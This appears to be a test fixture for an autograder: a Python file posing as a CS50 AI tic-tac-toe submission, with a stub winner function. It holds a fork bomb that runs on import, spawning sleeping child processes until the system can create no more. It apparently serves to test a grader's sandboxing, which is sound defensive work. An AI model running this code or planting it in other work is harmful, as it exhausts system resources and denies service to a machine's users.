"""A hostile submission in CS50 AI's interface: at import it forks until it may fork no more,
each child sleeping."""
import os
import time

try:
    while True:
        if os.fork() == 0:
            while True:
                time.sleep(1)
except OSError:
    pass


def winner(board):
    return None
